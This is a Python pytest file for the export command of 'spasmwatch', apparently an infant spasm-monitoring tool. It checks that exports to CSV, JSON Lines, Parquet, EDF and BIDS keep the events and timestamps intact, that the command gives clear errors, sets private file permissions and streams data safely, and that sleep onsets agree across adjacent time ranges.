"""Exports of a simulated two-week course from a real store, read back with the tools researchers use."""

from __future__ import annotations

import csv
import hashlib
import importlib
import io
import json
import os
import random
import stat
import tracemalloc
from collections.abc import Iterator
from datetime import datetime, timezone
from pathlib import Path

import pyarrow.parquet as pq
import pyedflib
import pytest
from cli_runner import run_cli
from course import DAY0, DAY_S, DEVICE, TREATMENT_T, Expected

from spasmwatch.export import Meta, Query, export, iso, relative, rows
from spasmwatch.export.columns import COLUMNS, TIMESTAMP_OF
from spasmwatch.export.rows import ActivityRow, SpasmRow, Tables
from spasmwatch.export.timeline import Row
from spasmwatch.analysis.sleepwake import counts_worn
from swcore.epoch import Wear
from swcore.frontend import Params

SINCE = "2024-03-04T00:00:00Z"
UNTIL = "2024-03-18T00:00:00Z"


def _export(db: Path, out: Path, fmt: str, *extra: str) -> None:
    assert run_cli("export", "--db", str(db), "--format", fmt, "--out", str(out), "--since", SINCE, "--until", UNTIL, *extra) == 0


def _digest(db: Path) -> dict[str, str]:
    """The store's content: the file and a -wal with frames in it. A read-only open leaves an empty
    -wal and the -shm (the WAL's shared-memory index, no content) behind; the test alone, before any
    other export had, found them new."""
    files = sorted(db.parent.glob(db.name + "*"))
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in files if not p.name.endswith("-shm") and p.stat().st_size}


def test_csv_has_every_spasm_cluster_note_and_treatment(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    db, exp = course_db
    _export(db, tmp_path / "course.csv", "csv")
    with open(tmp_path / "course.csv", newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f))
    spasms = [r for r in table if r["kind"] == "spasm"]
    assert [float(r["onset_s"]) for r in spasms] == pytest.approx([t - DAY0 for t in exp.spasm_times], abs=1e-3)
    assert spasms[0]["onset_utc"] == iso(exp.spasm_times[0])
    assert spasms[0]["device"] == DEVICE and spasms[0]["peak_angle_deg"] == "20.1"
    matched = [float(r["onset_s"]) for r in spasms if r["matched"] == "1"]
    assert matched == pytest.approx([t - DAY0 for t in exp.matched_times], abs=1e-3) and len(matched) >= 10
    assert {r["matched"] for r in spasms} == {"0", "1"}
    alike = [float(r["onset_s"]) for r in spasms if r["alike"] == "1"]
    assert alike == pytest.approx([t - DAY0 for t in exp.alike_times], abs=1e-3) and len(alike) >= 10
    clusters = [r for r in table if r["kind"] == "cluster"]
    assert len(clusters) == sum(exp.clusters_per_day)
    assert sum(r["label"] == "false_alarm" for r in clusters) == 1
    (treat, change) = [r for r in table if r["kind"] == "treatment"]
    assert (treat["drug"], treat["action"], float(treat["dose"]), treat["unit"]) == ("vigabatrin", "start", 50.0, "mg/kg/day")
    assert float(treat["onset_s"]) == TREATMENT_T - DAY0 and change["action"] == "change"
    assert {r["note_kind"] for r in table if r["kind"] == "note"} == {"video", "medication"}
    onsets = [float(r["onset_s"]) for r in table]
    assert onsets == sorted(onsets)
    side = json.loads((tmp_path / "course.json").read_text())
    assert side["RecordingStartUTC"] == "2024-03-04T00:00:00.000Z" and side["onset_s"]["Units"] == "s"


def test_sleep_and_wake_come_from_activity_epochs(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    db, _ = course_db
    _export(db, tmp_path / "sw.jsonl", "jsonl", "--kinds", "wake,sleep")
    recs = [json.loads(line) for line in (tmp_path / "sw.jsonl").read_text().splitlines()]
    wakes = [r["onset_s"] for r in recs if r["kind"] == "wake"]
    sleeps = [r["onset_s"] for r in recs if r["kind"] == "sleep"]
    # every morning (06:30) and after every nap (14:30), once asleep was seen first
    morning = [w for w in wakes if abs((w % DAY_S) - 6.5 * 3600) <= 60]
    nap_end = [w for w in wakes if abs((w % DAY_S) - 14.5 * 3600) <= 60]
    assert len(morning) == 14 and len(nap_end) == 14  # day 0 starts asleep: its morning wake is seen
    assert any(abs((s % DAY_S) - 20 * 3600) <= 600 for s in sleeps)
    assert {r["kind"] for r in recs} == {"wake", "sleep"}


def test_parquet_reads_back_with_units_in_schema(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    db, exp = course_db
    _export(db, tmp_path / "c.parquet", "parquet")
    table = pq.read_table(tmp_path / "c.parquet")
    kinds = table.column("kind").to_pylist()
    onsets = table.column("onset_s").to_pylist()
    spasm_onsets = [t for k, t in zip(kinds, onsets, strict=True) if k == "spasm"]
    assert spasm_onsets == pytest.approx([t - DAY0 for t in exp.spasm_times], abs=1e-3)
    field = table.schema.field("post_wake_s")
    assert field.metadata[b"units"] == b"s"
    assert json.loads(table.schema.metadata[b"spasmwatch"])["Device"] == "all"


def test_parquet_times_are_timestamps_beside_their_strings(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """Researcher review (2026-12-07): the Parquet export held its UTC times as strings only, and
    pandas/pyarrow users wrote to_datetime for each. Each is now also a timestamp[ms, tz=UTC] column,
    after every earlier one (a reader of the earlier files, by name or by position, finds what it found),
    the same instant as its string; the strings stay as they were."""
    import pandas as pd
    import pyarrow as pa

    db, exp = course_db
    _export(db, tmp_path / "c.parquet", "parquet")
    table = pq.read_table(tmp_path / "c.parquet")
    assert table.column_names == [c.name for c in COLUMNS] + ["onset_time", "alert_time"]
    assert [table.schema.field(n).type for n in ("onset_utc", "alert_utc")] == [pa.string(), pa.string()]
    stamp = pa.timestamp("ms", tz="UTC")
    assert table.schema.field("onset_time").type == stamp and table.schema.field("alert_time").type == stamp
    assert not table.schema.field("onset_time").nullable and table.schema.field("alert_time").nullable
    assert table.schema.field("onset_time").metadata[b"description"].startswith(b"onset_utc as a timestamp")
    assert json.loads(table.schema.metadata[b"spasmwatch"])["alert_time"]["Description"].startswith("alert_utc as a timestamp")
    assert set(TIMESTAMP_OF.values()) == {c.name for c in COLUMNS if c.name.endswith("_utc")}  # every UTC time typed

    def parsed(text: str | None) -> datetime | None:
        return None if text is None else datetime.fromisoformat(text)

    for typed, text in (("onset_time", "onset_utc"), ("alert_time", "alert_utc")):
        assert table.column(typed).to_pylist() == [parsed(s) for s in table.column(text).to_pylist()], typed
    alerts = [t for t in table.column("alert_time").to_pylist() if t is not None]
    assert len(alerts) == sum(exp.clusters_per_day) and all(t.tzinfo is not None for t in alerts)

    df = pd.read_parquet(tmp_path / "c.parquet")
    assert isinstance(df["onset_time"].dtype, pd.DatetimeTZDtype) and str(df["onset_time"].dt.tz) == "UTC"
    assert (df["onset_time"] == pd.to_datetime(df["onset_utc"], format="ISO8601")).all()
    clusters = df[df["kind"] == "cluster"]
    assert (clusters["alert_time"] == pd.to_datetime(clusters["alert_utc"], format="ISO8601")).all()
    assert df.loc[df["kind"] == "spasm", "alert_time"].isna().all()
    assert df["onset_utc"].iloc[0] == table.column("onset_utc")[0].as_py()  # the strings kept as strings


def test_edf_annotations_round_trip(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    db, exp = course_db
    _export(db, tmp_path / "c.edf", "edf", "--device", DEVICE, "--kinds", "spasm,cluster,treatment", "--tz", "UTC")  # start in UTC, whatever this computer's zone
    r = pyedflib.EdfReader(str(tmp_path / "c.edf"))
    try:
        onsets, durations, texts = r.readAnnotations()
        start = r.getStartdatetime().replace(tzinfo=timezone.utc)
    finally:
        r.close()
    assert start == datetime(2024, 3, 4, tzinfo=timezone.utc)
    spasm_onsets = [o for o, t in zip(onsets, texts, strict=True) if t == "spasm"]
    detected = [t for t in exp.spasm_times if t not in exp.matched_times]
    assert spasm_onsets == pytest.approx([t - DAY0 for t in detected], abs=1e-3)
    matched = [o for o, t in zip(onsets, texts, strict=True) if t == "spasm (matched)"]
    assert matched == pytest.approx([t - DAY0 for t in exp.matched_times], abs=1e-3)
    spasm_durations = [d for d, t in zip(durations, texts, strict=True) if t == "spasm"]
    assert spasm_durations == pytest.approx([1.2] * len(spasm_onsets))
    cluster_texts = [t for t in texts if t.startswith("cluster")]
    assert len(cluster_texts) == sum(exp.clusters_per_day) and "cluster of 8 spasms (false_alarm)" in cluster_texts
    assert "vigabatrin start 50 mg/kg/day" in list(texts)


def test_bids_events_tsv_round_trip(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    db, exp = course_db
    out = tmp_path / "sub-01_task-sleep_events.tsv"
    _export(db, out, "bids")
    with open(out, newline="", encoding="utf-8") as f:
        table = list(csv.DictReader(f, delimiter="\t"))
    assert list(table[0])[:4] == ["onset", "duration", "trial_type", "value"]
    spasms = [r for r in table if r["trial_type"] == "spasm"]
    assert [float(r["onset"]) for r in spasms] == pytest.approx([t - DAY0 for t in exp.spasm_times], abs=1e-3)
    assert all(r["label"] == "n/a" for r in spasms)
    assert [float(r["onset"]) for r in spasms if r["value"] == "spasm (matched)"] == pytest.approx(
        [t - DAY0 for t in exp.matched_times], abs=1e-3
    )
    side = json.loads(out.with_suffix(".json").read_text())
    assert side["onset"]["Units"] == "s" and "spasm" in side["trial_type"]["Levels"]
    assert set(table[0]) <= set(side)


def test_the_folders_an_export_makes_are_the_users_alone(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """A BIDS export makes its dataset's folders (root/sub-01/ses-01/beh): until 2026-12-07 each
    was 0755 under the usual umask, so another account listed the participants' and sessions'
    names, though the files in them were 0600 (docs/host.md "Security and privacy"). A folder that
    was there keeps its mode: the family may share it on purpose."""
    db, _ = course_db
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o755)
    os.chmod(shared, 0o755)
    out = shared / "bids" / "sub-01" / "ses-01" / "beh" / "sub-01_ses-01_task-sleep_events.tsv"
    csv_out = shared / "exports" / "night.csv"
    old = os.umask(0o022)
    try:
        _export(db, out, "bids", "--patient", "01")
        _export(db, csv_out, "csv")
    finally:
        os.umask(old)
    made = ["bids", "bids/sub-01", "bids/sub-01/ses-01", "bids/sub-01/ses-01/beh", "exports"]
    assert {f: oct(stat.S_IMODE((shared / f).stat().st_mode)) for f in made} == {f: oct(0o700) for f in made}
    files = [out, out.with_suffix(".json"), shared / "bids" / "participants.tsv", csv_out]
    assert {f.name: oct(stat.S_IMODE(f.stat().st_mode)) for f in files} == {f.name: oct(0o600) for f in files}
    assert stat.S_IMODE(shared.stat().st_mode) == 0o755


def test_exports_never_change_the_store(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    db, _ = course_db
    before = _digest(db)
    for fmt, name in (("csv", "a.csv"), ("jsonl", "a.jsonl"), ("parquet", "a.parquet"), ("edf", "a.edf"), ("bids", "x_events.tsv")):
        _export(db, tmp_path / name, fmt)
    assert _digest(db) == before


def test_bad_arguments_are_clear(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    from spasmwatch.errors import SpasmwatchError

    db, _ = course_db
    with pytest.raises(SpasmwatchError, match="not an ISO 8601"):
        run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.csv"), "--since", "yesterday")
    with pytest.raises(SpasmwatchError, match="_events.tsv"):
        run_cli("export", "--db", str(db), "--format", "bids", "--out", str(tmp_path / "x.tsv"))
    with pytest.raises(SpasmwatchError, match="no such store"):
        run_cli("export", "--db", str(tmp_path / "none.db"), "--out", str(tmp_path / "x.csv"))
    # Found by the docs run: 'unknown kind(s) clusters; choose from ...' did not name the option.
    with pytest.raises(SpasmwatchError) as e:
        run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.csv"), "--kinds", "spasm,clusters")
    assert str(e.value) == "--kinds: unknown kind(s) clusters; choose from spasm, cluster, wake, sleep, note, treatment, not_worn, disconnected, lost"
    with pytest.raises(SpasmwatchError, match="^--kinds: no kind given"):  # an export of nothing
        run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.csv"), "--kinds", ",")
    assert not (tmp_path / "x.csv").exists()
    # Found by review: JSON Lines written to x.json had its sidecar (x.json) written over it.
    with pytest.raises(SpasmwatchError, match="sidecar would overwrite it"):
        run_cli("export", "--db", str(db), "--format", "jsonl", "--out", str(tmp_path / "events.json"))
    assert not (tmp_path / "events.json").exists()
    # Found by the input audit: 'empty time range: since 2024-03-05T00:00:00.000Z is not before until ...' named no option.
    for window in (["--since", "2024-03-05", "--until", "2024-03-04"], ["--until", "1970-01-01T00:00:00Z"]):
        with pytest.raises(SpasmwatchError, match="^--since .* is not before --until .*: an empty time range$"):
            run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.csv"), *window)
    assert not (tmp_path / "x.csv").exists()


@pytest.mark.parametrize(("name", "fmt", "want"), [("y.parquet", "csv", "csv"), ("y.edf", "jsonl", "jsonl"), ("sub-01_events.csv", "bids", "tsv")])
def test_a_format_its_out_suffix_contradicts_is_refused(course_db: tuple[Path, Expected], tmp_path: Path, name: str, fmt: str, want: str) -> None:
    """Found by the researcher audit: '--format csv --out y.parquet' wrote a CSV named y.parquet, which
    pyarrow then refused ('Parquet magic bytes not found'). A suffix of no format (x.dat) is still free."""
    from spasmwatch.errors import SpasmwatchError

    db, _ = course_db
    out = tmp_path / name
    with pytest.raises(SpasmwatchError, match=f"^--format {fmt} with --out {name}: .* name it \\.{want}, or leave --format out$"):
        run_cli("export", "--db", str(db), "--format", fmt, "--out", str(out))
    assert not out.exists()
    assert run_cli("export", "--db", str(db), "--format", "csv", "--out", str(tmp_path / "x.dat"), "--since", SINCE, "--until", UNTIL) == 0
    assert (tmp_path / "x.dat").read_text().startswith("onset_utc,onset_s,")
    # Found by the docs run: 'x.xlsx' without --format said "--format is needed" and named no format.
    with pytest.raises(SpasmwatchError) as e:
        run_cli("export", "--db", str(db), "--out", str(tmp_path / "x.xlsx"))
    assert str(e.value) == ("--format is needed: cannot tell the format from 'x.xlsx': give --format csv, jsonl, parquet, "
                            "edf or bids, or an --out ending .csv, .jsonl, .parquet, .edf or .tsv (bids)")  # fmt: skip


@pytest.mark.parametrize("command", ["export", "report"])
@pytest.mark.parametrize("rate", ["nan", "inf", "-3", "0", "52Hz"])
def test_a_bad_rate_hz_is_refused_naming_the_option(
    course_db: tuple[Path, Expected], tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, rate: str
) -> None:
    """Found by the docs run: nan and inf ended in a traceback, -3 and 0 gave other wake/sleep rows."""
    db, _ = course_db
    out = tmp_path / ("x.csv" if command == "export" else "x.html")
    with pytest.raises(SystemExit) as exit_:
        run_cli(command, "--db", str(db), "--out", str(out), "--rate-hz", rate)
    assert exit_.value.code == 2 and f"--rate-hz: expected a sample rate in Hz, 10-100000, got '{rate}'" in capsys.readouterr().err
    assert not out.exists()


@pytest.mark.parametrize(("name", "fmt"), [("e.csv", "csv"), ("e.jsonl", "jsonl"), ("e.parquet", "parquet"), ("e.edf", "edf"), ("sub-01_events.tsv", "bids")])
def test_an_export_writes_over_an_earlier_export_only(course_db: tuple[Path, Expected], tmp_path: Path, name: str, fmt: str) -> None:
    """Found by the docs run: '--out rec.csv' replaced a recording, and the sidecar (rec.json)
    replaced whatever JSON of one's own had that name."""
    from spasmwatch.errors import SpasmwatchError

    db, _ = course_db
    out = tmp_path / name
    args = ("export", "--db", str(db), "--format", fmt, "--out", str(out), "--since", "2024-03-01")
    assert run_cli(*args) == 0
    assert run_cli(*args) == 0  # the same export again
    recording = b"t,ax,ay,az\n0,0,0,1\n0.02,0,0,1\n"
    out.write_bytes(recording)
    with pytest.raises(SpasmwatchError, match=f"{out}: exists and is not an earlier spasmwatch export"):
        run_cli(*args)
    assert out.read_bytes() == recording
    if fmt in ("csv", "jsonl", "bids"):
        out.unlink()
        own = tmp_path / (out.stem + ".json")
        own.write_text('{"mine": true}\n')
        with pytest.raises(SpasmwatchError, match=f"{own}: exists and is not an earlier spasmwatch export"):
            run_cli(*args)
        assert own.read_text() == '{"mine": true}\n' and not out.exists()


@pytest.mark.parametrize(("first", "fmt1", "second", "fmt2"), [
    ("out.csv", "csv", "out.jsonl", "jsonl"), ("out.jsonl", "jsonl", "out.csv", "csv"),
    ("sub-01_events.tsv", "bids", "sub-01_events.csv", "csv"), ("sub-01_events.csv", "csv", "sub-01_events.tsv", "bids")])  # fmt: skip
def test_an_export_keeps_the_sidecar_of_another_format_s_file(
    course_db: tuple[Path, Expected], tmp_path: Path, first: str, fmt1: str, second: str, fmt2: str
) -> None:
    """Found by the researcher audit: 'out.csv --since A' then 'out.jsonl --since B' share out.json,
    and the second replaced the first's: out.csv's onset_s counted from A beside a sidecar saying
    RecordingStartUTC B. Refused now, naming both files; once the first file is gone, it is written."""
    from spasmwatch.errors import SpasmwatchError

    db, _ = course_db
    a, b, side = tmp_path / first, tmp_path / second, (tmp_path / first).with_suffix(".json")
    assert run_cli("export", "--db", str(db), "--format", fmt1, "--out", str(a), "--since", "2024-03-05T00:00:00Z") == 0
    kept = side.read_bytes()
    with pytest.raises(SpasmwatchError, match=f"^{side}: is the sidecar of {a} \\(an earlier {fmt1} export"):
        run_cli("export", "--db", str(db), "--format", fmt2, "--out", str(b), "--since", "2024-03-04T00:00:00Z")
    assert side.read_bytes() == kept and not b.exists()
    assert "2024-03-05T00:00:00.000Z" in kept.decode()
    a.unlink()  # its data file gone, the sidecar is nobody's: written over
    assert run_cli("export", "--db", str(db), "--format", fmt2, "--out", str(b), "--since", "2024-03-04T00:00:00Z") == 0
    assert "2024-03-04T00:00:00.000Z" in side.read_text() and b.exists()


def test_a_csv_and_a_jsonl_of_the_same_range_share_their_sidecar(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """The same rows in two formats (README: 'also csv, jsonl, ...') describe each other's: the
    second export is written, without --until too (its range end moves on). A BIDS events.json is
    never replaced by another format's (the validator refuses the keys a CSV's sidecar has)."""
    from spasmwatch.errors import SpasmwatchError

    db, _ = course_db
    for name, fmt in (("out.csv", "csv"), ("out.jsonl", "jsonl"), ("out.csv", "csv")):
        assert run_cli("export", "--db", str(db), "--format", fmt, "--out", str(tmp_path / name), "--since", SINCE) == 0
    assert json.loads((tmp_path / "out.json").read_text())["RecordingStartUTC"] == "2024-03-04T00:00:00.000Z"
    _export(db, tmp_path / "sub-01_events.tsv", "bids")
    with pytest.raises(SpasmwatchError, match="is the sidecar of .*sub-01_events.tsv \\(an earlier bids export"):
        _export(db, tmp_path / "sub-01_events.csv", "csv")


def _many_spasms(n: int) -> Iterator[SpasmRow]:
    for i in range(n):
        yield SpasmRow(DEVICE, 1, i, DAY0 + i * 2.0, 1.0, 100.0, 20.0, 80)


class _Lazy(Tables):
    """A source whose spasm rows are generated on demand: nothing is held."""

    def __init__(self, n: int) -> None:
        super().__init__()
        self.n = n

    def spasms(self, device: str | None, since: float, until: float) -> Iterator[SpasmRow]:
        return _many_spasms(self.n)


def _peak_bytes(tmp_path: Path, fmt: str, n: int) -> int:
    q = Query(None, DAY0, DAY0 + 1e7)
    tracemalloc.start()
    try:
        t0, stream = relative(rows(_Lazy(n), q), None)
        assert export(fmt, tmp_path / f"big{n}.{fmt}", stream, Meta(q, t0)) == n
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_huge_range_streams_in_bounded_memory(tmp_path: Path, fmt: str) -> None:
    """Four times the rows, about the same peak: nothing grows with the range."""
    small, big = _peak_bytes(tmp_path, fmt, 15_000), _peak_bytes(tmp_path, fmt, 60_000)
    assert big < 1.3 * small + 2e6, f"peak {small / 1e6:.1f} MB for 15k rows, {big / 1e6:.1f} MB for 60k"


@pytest.mark.parametrize(("name", "fmt"), [("x.csv", "csv"), ("x.jsonl", "jsonl"), ("x.parquet", "parquet"), ("x.edf", "edf"), ("sub-01_events.tsv", "bids")])
def test_an_interrupted_export_leaves_the_earlier_one_whole(tmp_path: Path, name: str, fmt: str) -> None:
    """Found by the input audit: an export stopped part-way (^C, a full disk, a store error) left a
    cut file in place of the earlier export, which the next export took for a whole one."""
    q = Query(None, DAY0, DAY0 + 1e7)
    out = tmp_path / name
    t0, stream = relative(rows(_Lazy(100), q), None)
    assert export(fmt, out, stream, Meta(q, t0)) == 100
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}

    def interrupted() -> Iterator[Row]:
        _, more = relative(rows(_Lazy(5000), q), None)
        for n, r in enumerate(more):
            if n == 3000:
                raise KeyboardInterrupt  # ^C part-way through
            yield r

    with pytest.raises(KeyboardInterrupt):
        export(fmt, out, interrupted(), Meta(q, t0))
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before


def test_docs_table_lists_every_column_as_exported(repo_root: Path) -> None:
    """docs/exports.md's column table is the exports' own list, row for row."""
    doc = (repo_root / "docs" / "exports.md").read_text(encoding="utf-8")
    rows = [line for line in doc.splitlines() if line.startswith("| `")]
    want = [f"| `{c.name}` | {c.type} | {c.units or ''} | {c.description} |" for c in COLUMNS]
    assert rows == want


def _onsets(db: Path, out: Path, since: float, until: float) -> list[str]:
    assert run_cli("export", "--db", str(db), "--format", "jsonl", "--out", str(out), "--kinds", "wake,sleep",
                   "--since", iso(since), "--until", iso(until)) == 0  # fmt: skip
    return [json.loads(line)["onset_utc"] for line in out.read_text().splitlines()]


def test_exports_of_adjacent_ranges_hold_every_onset_once(course_db: tuple[Path, Expected], tmp_path: Path) -> None:
    """Found by review: a sleep onset is decided up to 10 min after it, and the epochs were read
    only up to --until; an export ending 5 min after an onset lacked it, and the next one, which
    starts after it, dropped it too: day-by-day exports lost such onsets."""
    db, _ = course_db
    day = DAY0 + DAY_S
    whole = _onsets(db, tmp_path / "whole.jsonl", day, day + DAY_S)
    evening = datetime.fromisoformat(next(t for t in whole if "T20:" in t).replace("Z", "+00:00")).timestamp()
    cut = evening + 300
    parts = _onsets(db, tmp_path / "a.jsonl", day, cut) + _onsets(db, tmp_path / "b.jsonl", cut, day + DAY_S)
    assert parts == whole, (parts, whole)


def test_adjacent_ranges_hold_a_sleep_whose_window_spans_kept_gaps(tmp_path: Path) -> None:
    """Hostile review of SLEEP_GAP_KEEP_MS: across gaps of up to 5 min the estimate goes on, so the
    sleep window's 60 epochs spanned up to 59 such gaps, and a sleep was decided that much later.
    Awake 1 h, then asleep with the band rebooting 4 times (4 min unheard each) in its first 10 min:
    the sleep at 01:00 was decided at 01:26, past the 20 min (LEAD_S then) read after --until: the
    export to 01:05 lacked it and the one from 01:05 too (it is before it); the daemon had it. Since
    a window holds at most SLEEP_WINDOW_UNHEARD_MAX_MS (10 min) unheard the sleep is dated after the
    second reboot (01:09:40; its window holds the last two, 8 min) and decided 18 min after it: the
    daemon and the two exports cut 5 min after it still tell it once."""
    from spasmwatch.daemon.live import LiveAnalysis
    from spasmwatch.store import Store
    from swcore.frontend import Params

    rows, seq, t = [], [], DAY0
    for n in range(360 + 360):
        if n in (365, 370, 375, 380):
            t += 240.0  # the band rebooted: 4 min unheard, its log's epochs none
        activity = 200 if n < 360 else 3
        rows.append({"boot": 1, "t_ms": round((t - DAY0) * 1000) + 10_000, "activity": activity, "breath": 40, "off_body": 0, "worn": 1})
        seq.append((t, activity))
        t += 10.0
    db = tmp_path / "s.db"
    with Store(db) as store:
        store.add_sync(DEVICE, 1, 0, DAY0)
        store.add_activity(DEVICE, rows, received_wall_s=DAY0)
    listener = _Sleeps()
    live = LiveAnalysis(DEVICE, Params(rate_hz=52.0), None, listener, lambda: t)  # type: ignore[arg-type]  # no rebuild asked
    for start, activity in seq:
        live.epoch(start, activity, False, True)
    sleep = DAY0 + 3600.0 + 100.0 + 2 * 240.0
    assert listener.said == [iso(sleep)]
    cut = sleep + 300.0
    assert _onsets(db, tmp_path / "a.jsonl", DAY0, cut) + _onsets(db, tmp_path / "b.jsonl", cut, t) == [iso(sleep)]


def _store_of(db: Path, seq: list[tuple[float, int]]) -> None:
    """A store of one band's epochs (start, activity) in one boot, worn and on the body."""
    from spasmwatch.store import Store

    rows = [{"boot": 1, "t_ms": round((t - DAY0) * 1000) + 10_000, "activity": a, "breath": 40, "off_body": 0, "worn": 1} for t, a in seq]
    with Store(db) as store:
        store.add_sync(DEVICE, 1, 0, DAY0)
        store.add_activity(DEVICE, rows, received_wall_s=DAY0)


def _stored_night(tmp_path: Path, seq: list[tuple[float, int]]) -> tuple[Path, float, list[str]]:
    """``seq``'s store (``_store_of``), the end of its last epoch, and the onsets its whole export tells."""
    db = tmp_path / "s.db"
    _store_of(db, seq)
    end = seq[-1][0] + 10.0
    return db, end, _onsets(db, tmp_path / "w.jsonl", DAY0, end)


def _split(db: Path, out: Path, cut: float, end: float, read: tuple[str, float], monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The onsets of the exports of [DAY0, cut) and [cut, end) with the store source's read (``read``:
    LEAD_S before a range, at most, or DECIDED_WITHIN_S after it) set to the length given."""
    monkeypatch.setattr(importlib.import_module("spasmwatch.export.store_source"), *read)
    return _onsets(db, out / "a.jsonl", DAY0, cut) + _onsets(db, out / "b.jsonl", cut, end)


def test_a_sleep_is_decided_within_decided_within_s_and_a_lead_an_epoch_shorter_loses_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The bound of export/sleep.py's DECIDED_WITHIN_S, to the epoch: awake 1 h, an epoch unheard,
    then asleep with two gaps of 5 min (the longest kept) in its first 60 epochs: its window holds
    10 min unheard (SLEEP_WINDOW_UNHEARD_MAX_MS), the one an epoch earlier 10 min 10 s (with the
    last active epoch), so the sleep is decided by an epoch starting 19 min 50 s after its onset.
    Exports cut 5 s after the onset tell it once with epochs read DECIDED_WITHIN_S after --until;
    an epoch less, in neither (the first's read stops short of its deciding epoch)."""
    from spasmwatch.export.sleep import DECIDED_WITHIN_S
    from spasmwatch.export.store_source import EPOCH_S

    seq = [(DAY0 + 10.0 * n, 200) for n in range(360)]
    onset = seq[-1][0] + 2 * EPOCH_S
    t = onset
    for n in range(60 + 180):
        seq.append((t, 3))
        t += EPOCH_S + (300.0 if n in (19, 39) else 0.0)
    db = tmp_path / "s.db"
    _store_of(db, seq)
    whole = _onsets(db, tmp_path / "w.jsonl", DAY0, t)
    assert whole == [iso(onset)]
    cut = onset + 5.0
    assert _split(db, tmp_path, cut, t, ("DECIDED_WITHIN_S", DECIDED_WITHIN_S), monkeypatch) == whole
    assert _split(db, tmp_path, cut, t, ("DECIDED_WITHIN_S", DECIDED_WITHIN_S - EPOCH_S), monkeypatch) == []


def test_adjacent_ranges_agree_past_a_twitching_sleep_no_shorter_lead_knows_the_start_of(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Why the read before a range is not DECIDED_WITHIN_S, nor a fixed 40 min (docs/exports.md): awake 1 h,
    asleep from 01:00 (told), from 01:30 an active epoch every 4 min for 3 h (no sleep window quiet
    enough, no wake), then quiet 30 min and awake. An estimate begun inside the twitching is asleep
    'owed' and claims a sleep once 10 min are quiet again (04:24:10, past the last twitch but one:
    a sleep window may hold one active epoch); the whole export's, asleep
    since 01:00, claims none. Cut at 03:30: with epochs read from the band's last fresh start (its first
    epoch, 3.5 h before; at most LEAD_S) the second export begins awake and agrees; with LEAD_S 40 min
    (no fresh start in it: read from 40 min before), it tells a sleep at 04:24:10 the whole one does not."""
    from spasmwatch.export.sleep import LEAD_S

    sleep, twitch, quiet, wake = DAY0 + 3600.0, DAY0 + 5400.0, DAY0 + 5400.0 + 3 * 3600.0, DAY0 + 5400.0 + 3.5 * 3600.0
    seq: list[tuple[float, int]] = []
    for n in range(int((wake + 1800.0 - DAY0) / 10.0)):
        t = DAY0 + 10.0 * n
        twitching = twitch <= t < quiet and n % 24 == 0
        seq.append((t, 400 if t < sleep or t >= wake else 200 if twitching else 3))  # awake: moving (WAKE_MOVE_PCT)
    db, end, whole = _stored_night(tmp_path, seq)
    assert whole == [iso(sleep), iso(wake)]
    cut = DAY0 + 3.5 * 3600.0
    assert _split(db, tmp_path, cut, end, ("LEAD_S", LEAD_S), monkeypatch) == whole
    settled = [t for t, a in seq if a == 200 and sleep < t < quiet][-2] + 10.0  # a window may hold one twitch
    assert _split(db, tmp_path, cut, end, ("LEAD_S", 2400.0), monkeypatch) == [iso(sleep), iso(settled), iso(wake)]


def test_adjacent_ranges_agree_past_an_8_h_twitching_sleep_cut_in_its_middle(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No fixed lead is enough (docs/exports.md): awake 1 h, asleep from 01:00 (told), the band
    rebooting from 01:30 for 2 h (an epoch heard every 290 s: no window decides anything), then a
    twitch every 4 min for 8 h, quiet 30 min and awake. Cut in the twitching's middle (07:30): read
    from 5.25 h before it (02:15, in the reboots), the second export's estimate began UNKNOWN, went
    asleep 'owed' in the twitching and told a sleep near its end (11:22:10) the whole export, asleep
    since 01:00, does not. Read from the band's last fresh start (00:00, its first epoch), the two
    tell what the whole one tells; with LEAD_S, the most read before a range, 5.25 h (no fresh start
    in it), as the old code did."""
    sleep, reboots, twitch = DAY0 + 3600.0, DAY0 + 5400.0, DAY0 + 5400.0 + 2 * 3600.0
    quiet, wake = twitch + 8 * 3600.0, twitch + 8.5 * 3600.0
    seq: list[tuple[float, int]] = []
    t = DAY0
    while t < wake + 1800.0:
        twitching = twitch <= t < quiet and round((t - twitch) / 10.0) % 24 == 0
        seq.append((t, 400 if t < sleep or t >= wake else 200 if twitching else 3))  # awake: moving (WAKE_MOVE_PCT)
        t += 290.0 if reboots <= t < twitch else 10.0
    db, end, whole = _stored_night(tmp_path, seq)
    assert whole == [iso(sleep), iso(wake)]
    cut = twitch + 4 * 3600.0
    assert _onsets(db, tmp_path / "a.jsonl", DAY0, cut) + _onsets(db, tmp_path / "b.jsonl", cut, end) == whole
    settled = [t for t, a in seq if a == 200 and twitch < t < quiet][-2] + 10.0  # a window may hold one twitch
    assert _split(db, tmp_path, cut, end, ("LEAD_S", 5.25 * 3600.0), monkeypatch) == [iso(sleep), iso(settled), iso(wake)]


def test_onset_utc_and_onset_s_agree_to_the_millisecond() -> None:
    """Found by a run of the docs: onset_utc truncated (06:05:41.470) what onset_s rounded (41.471)."""
    assert iso(1_709_618_741.4709) == "2024-03-05T06:05:41.471Z"
